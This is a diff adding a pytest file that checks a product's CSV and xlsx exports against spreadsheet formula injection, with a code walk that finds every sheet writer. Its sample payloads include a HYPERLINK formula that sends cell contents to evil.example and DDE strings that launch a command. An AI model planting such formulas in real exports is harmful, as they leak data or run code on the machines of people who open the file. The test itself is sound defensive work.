@@ -1,0 +1,203 @@
+"""Every CSV and .xlsx the product writes follows one rule for text (``kiosk.sheets``): in a
+CSV, text a spreadsheet would run as a formula (``= + - @``, a tab or CR first) gets a leading
+``'``; in an .xlsx, text is a text cell, kept as it is and never a formula. Numbers stay
+numbers. The walk below finds every place that writes a sheet, so a new writer cannot be
+added without a check here."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from checkpoint.cli import main
+from kiosk.passes import TrustList
+
+ROOT = Path(__file__).resolve().parents[1]
+PACKAGES = ("kiosk", "drivers", "ui", "checkpoint", "office")
+#: A holder's name a stranger could have the office type in: Excel runs it when it opens the CSV.
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+HOSTILE = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "\t=1+1")
+PHONE = "+86 138 0013 8000"
+
+
+def _csv_safe(cell: str, text: str) -> bool:
+    """``cell`` (as a CSV reader reads it back) is ``text`` behind the one leading quote."""
+    return cell == "'" + text
+
+
+def _sheet_call_sites() -> set[str]:
+    """``module.function`` of every place outside ``kiosk.sheets`` that writes a sheet: calls
+    ``write_csv``/``write_xlsx``, a csv writer or an openpyxl workbook."""
+    names = {"write_csv", "write_xlsx", "csv_text", "writer", "DictWriter", "Workbook"}
+    found = set()
+    for package in PACKAGES:
+        for path in sorted((ROOT / package).rglob("*.py")):
+            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
+            if module == "kiosk.sheets":
+                continue
+            source = path.read_text(encoding="utf-8")
+            if not any(name in source for name in names):
+                continue  # most modules: no need to parse them
+            tree = ast.parse(source)
+            for func in ast.walk(tree):
+                if not isinstance(func, ast.FunctionDef | ast.AsyncFunctionDef):
+                    continue
+                for node in ast.walk(func):
+                    if isinstance(node, ast.Call):
+                        callee = node.func
+                        name = callee.attr if isinstance(callee, ast.Attribute) else None
+                        name = callee.id if isinstance(callee, ast.Name) else name
+                        if name in names:
+                            found.add(f"{module}.{func.name}")
+    return found
+
+
+def _report(text: str) -> dict[str, Any]:
+    return {
+        "day": "2026-03-02",
+        "kiosks": [text],
+        "events": 3,
+        "by_decision": {text: 1},
+        "ledgers": {"gates": [{"kiosk_id": text}], "missing": [text]},
+        "community": {"services": {"by_kind": {text: 2}}},
+        "by_reason": {text: 1},
+        "by_gate": [{"kiosk_id": text, "community": {"people": {text: 4}}}],
+    }
+
+
+def _xlsx_cells(data: bytes) -> list[tuple[Any, str]]:
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(data))
+    return [(c.value, c.data_type) for s in book.worksheets for r in s.iter_rows() for c in r]
+
+
+def _check_xlsx(data: bytes, text: str) -> None:
+    cells = _xlsx_cells(data)
+    assert (text, "s") in cells, cells  # kept as typed: no quote added, read as text
+    assert not [c for c in cells if c[1] == "f"]  # nothing the workbook would calculate
+
+
+def check_report_csv(request: pytest.FixtureRequest, text: str) -> None:
+    from kiosk.categories import report_csv
+
+    rows = list(csv.reader(io.StringIO(report_csv(_report(text)), newline="")))
+    cells = [c for r in rows for c in r]
+    assert text not in cells and sum(_csv_safe(c, text) for c in cells) >= 4
+    assert ["report", "events", "3"] in rows  # a number is still a number
+
+
+def check_report_xlsx(request: pytest.FixtureRequest, text: str) -> None:
+    from kiosk.categories import report_xlsx
+
+    data = report_xlsx(_report(text))
+    _check_xlsx(data, text)
+    assert (3, "n") in _xlsx_cells(data)
+
+
+def check_guard_csv(request: pytest.FixtureRequest, text: str) -> None:
+    from ui.guard.display import events_csv
+
+    out = events_csv(["name", "temp"], [[text, -3.5], [PHONE, 36.6]])
+    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")))
+    assert _csv_safe(rows[1][0], text) and rows[1][1] == "-3.5"  # a sign, not a formula
+    assert _csv_safe(rows[2][0], PHONE)
+
+
+def check_guard_xlsx(request: pytest.FixtureRequest, text: str) -> None:
+    from ui.guard.display import events_xlsx
+
+    data = events_xlsx(["name", "temp"], [[text, -3.5], [PHONE, None]], [(text, text)], "en")
+    _check_xlsx(data, text)
+    cells = _xlsx_cells(data)
+    assert (-3.5, "n") in cells and (PHONE, "s") in cells  # the phone reads as written
+
+
+def check_api_csv(request: pytest.FixtureRequest, text: str) -> None:
+    from kiosk.store import EventDraft
+    from ui.api import EVENT_FIELDS, csv_rows
+
+    store = request.getfixturevalue("store")
+    store.append(
+        EventDraft(
+            direction="in", decision="manual_pass", reasons=("guard_override",), operator=text
+        )
+    )
+    out = "".join(csv_rows(store, 0, 10, frozenset(EVENT_FIELDS), 10))
+    row = next(csv.DictReader(io.StringIO(out, newline="")))
+    assert _csv_safe(row["operator"], text)
+
+
+def check_pass_batch(request: pytest.FixtureRequest, text: str) -> None:
+    text = text[:20].strip()  # a pass holds 22 bytes of household and holder
+    tmp_path: Path = request.getfixturevalue("tmp_path")
+    keys = tmp_path / "keys"
+    assert main(["keys", "new", "--dir", str(keys), "--name", "office"]) == 0
+    households = tmp_path / "households.csv"
+    with households.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows([["household", "holder"], ["1", text]])
+    out = tmp_path / "cards"
+    args = ["--key", str(keys / "office.key"), "--csv", str(households), "--out", str(out)]
+    assert main(["pass", "batch", *args]) == 0
+    data = (out / "passes.csv").read_text(encoding="utf-8-sig")
+    row = next(csv.DictReader(io.StringIO(data, newline="")))
+    assert _csv_safe(row["holder"], text)
+    assert TrustList.from_dir(keys).verify(row["payload"]).holder == text  # the pass: as is
+
+
+def check_list_handoff(request: pytest.FixtureRequest, text: str) -> None:
+    """Not a sheet: the list import hands its rows to the list store's reader as CSV text,
+    which no spreadsheet opens; a note starting with ``-`` is stored as it was imported."""
+    from kiosk.listimport import apply_list_import
+
+    seen: list[str] = []
+
+    class Store:
+        def import_csv(self, kind: str, csv_text: str, actor: str) -> None:
+            seen.append(csv_text)
+
+    plan = type("Plan", (), {"header": ("note",), "rows": ({"note": text},), "kind": "x"})
+    apply_list_import(plan, Store(), "clerk")  # type: ignore[arg-type]
+    assert next(csv.DictReader(io.StringIO(seen[0], newline="")))["note"] == text
+
+
+WRITERS: dict[str, Callable[[pytest.FixtureRequest, str], None]] = {
+    "kiosk.categories.report_csv": check_report_csv,
+    "kiosk.categories.report_xlsx": check_report_xlsx,
+    "ui.guard.display.events_csv": check_guard_csv,
+    "ui.guard.display.events_xlsx": check_guard_xlsx,
+    "ui.api.csv_rows": check_api_csv,
+    "checkpoint.cli.pass_cmd.pass_batch": check_pass_batch,
+    "kiosk.listimport.apply_list_import": check_list_handoff,
+}
+
+
+def test_every_place_that_writes_a_sheet_has_its_check_here():
+    assert _sheet_call_sites() == set(WRITERS)
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=["hyperlink", "plus", "minus", "at", "tab"])
+@pytest.mark.parametrize("writer", sorted(WRITERS))
+def test_text_in_every_sheet_is_never_a_formula(request, writer, text):
+    WRITERS[writer](request, text)
+
+
+def test_a_holder_named_like_a_formula_is_text_in_the_batchs_passes_csv(request):
+    """Before: passes.csv held ``=HYPERLINK(...)`` bare, and Excel ran it when the office
+    opened the batch's manifest (the guard's exports had the rule; the batch did not)."""
+    check_pass_batch(request, '=HYPERLINK("x.cn")')
+
+
+def test_a_phone_number_in_a_csv_keeps_its_digits_behind_one_quote():
+    """``+86 ...`` would be read as a formula (and ``+8613800138000`` as 8.6E+12): it gets the
+    one leading ``'`` and nothing else; a name or a number is written untouched."""
+    from kiosk.sheets import write_csv
+
+    rows = list(csv.reader(io.StringIO(write_csv([[PHONE, "张三", -3.5, 7, None]]))))
+    assert rows == [["'" + PHONE, "张三", "-3.5", "7", ""]]
